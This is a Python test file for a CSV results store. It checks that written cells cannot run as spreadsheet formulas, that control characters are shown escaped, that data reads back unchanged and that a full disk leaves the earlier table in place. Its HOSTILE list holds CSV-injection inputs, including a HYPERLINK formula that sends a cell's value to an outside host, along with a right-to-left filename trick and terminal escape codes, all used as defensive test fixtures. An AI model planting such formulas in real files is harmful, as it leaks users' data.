"""The table as CSV: nothing in it runs in a spreadsheet, and it reads back as it was."""

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sample_results import write_sample

from runners import collect, report
from runners.rows.selection import as_read, read_rows
from runners.store.columns import COLUMNS
from runners.store.csv import SIGNS, read_csv, to_csv
from runners.store.names import visible
from runners.table import load, save

HOSTILE = ['=HYPERLINK("http://x/"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\n=1", "'=1", "''=1", "'quoted", "a=b", "-"]
ODD = ['comma, "quote"', "two\nlines", "NA", "None", "nan", "null", " space ", "ünï", "'"]


def write(texts: list[str], path: Path) -> pd.DataFrame:
    table = pd.DataFrame({"note": pd.array(texts, dtype="string"), "acc1": pd.array([-1.5] * len(texts), "Float64")})
    save(table, path)
    return table


def fields(text: str) -> set[str]:
    return {field for row in csv.reader(io.StringIO(text)) for field in row}


def test_text_is_inert_and_reads_back(tmp_path: Path) -> None:
    table = write([*HOSTILE, *ODD], tmp_path / "table.csv")
    text = (tmp_path / "table.csv").read_text()
    assert not [field for field in fields(text) if field.startswith(SIGNS) and field != "-1.5"]
    found = read_csv(tmp_path / "table.csv", {"note": "string", "acc1": "Float64"})
    pd.testing.assert_frame_equal(found, table)


@given(st.lists(st.text(max_size=6), min_size=1, max_size=5))
def test_any_text_reads_back_as_it_is_shown(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    path = tmp_path_factory.mktemp("csv") / "table.csv"
    write(texts, path)
    found = read_csv(path, {"note": "string", "acc1": "Float64"})["note"].fillna("")
    assert list(found) == [visible(text) for text in texts]


def test_names_of_columns_are_text_too(tmp_path: Path) -> None:
    (tmp_path / "table.csv").write_text(to_csv(pd.DataFrame({"=1+1": [1], "self": [2]})))
    assert (tmp_path / "table.csv").read_text().splitlines()[0] == "'=1+1,self"
    assert list(read_csv(tmp_path / "table.csv", {})) == ["=1+1", "self"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\r\nb\tc", "a\\r\nb\tc"),
        ("\x1b[2Jgone", "\\x1b[2Jgone"),
        ("\x7f\x9b", "\\x7f\\x9b"),
        ("txt.\u202eexe", "txt.\\u202eexe"),
        ("\udcff", "\\udcff"),
        ("50 % ± ü", "50 % ± ü"),
    ],
)
def test_control_characters_are_shown(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_a_message_with_a_carriage_return_reads_back(tmp_path: Path) -> None:
    from ablations.study import Cell
    from runners.store.record import Record
    from runners.store.store import open_store

    store = open_store(tmp_path / "runs", create=True)
    key = store.add_cell(Cell(), None, ["accuracy"])
    message = "first\r second \x1b[31m"
    failed = Record(measure="accuracy", device_id="cpu", protocol=1, status="error", error_message=message)
    store.write_record(key, failed)
    assert collect.main(["--results", str(tmp_path / "runs")]) == 0
    (row,) = read_rows(tmp_path / "runs" / "table.csv").to_dict("records")
    assert row["error_message"] == "accuracy: first\\r second \\x1b[31m"


def test_every_row_of_a_report_in_csv_reads_back(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = write_sample(tmp_path / "runs", seeds=2)
    (store.folder(store.cell_keys()[0]) / "studies" / "=1+2").touch()
    assert report.main(["--results", str(tmp_path / "runs"), "--format", "csv"]) == 0
    text = capsys.readouterr().out
    assert "'=1+2" in fields(text) | {name for field in fields(text) for name in field.split(";")}
    (tmp_path / "again.csv").write_text(text)
    columns = [name for name in COLUMNS if name != "settings"]
    before, after = (as_read(read_rows(path)) for path in (tmp_path / "runs", tmp_path / "again.csv"))
    pd.testing.assert_frame_equal(after[columns], before[columns])


def test_a_full_disk_leaves_the_table_of_before(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from runners.store.files import StoreError

    write_sample(tmp_path / "runs", seeds=1)
    path = tmp_path / "runs" / "table.csv"
    save(load(tmp_path / "runs"), path)
    before = path.read_text()

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(StoreError, match=r"table\.csv: No space left"):
        save(load(tmp_path / "runs"), path)
    assert collect.main(["--results", str(tmp_path / "runs")]) == 2
    assert "table.csv: No space left" in capsys.readouterr().err
    assert path.read_text() == before and not list((tmp_path / "runs").glob(".table*"))
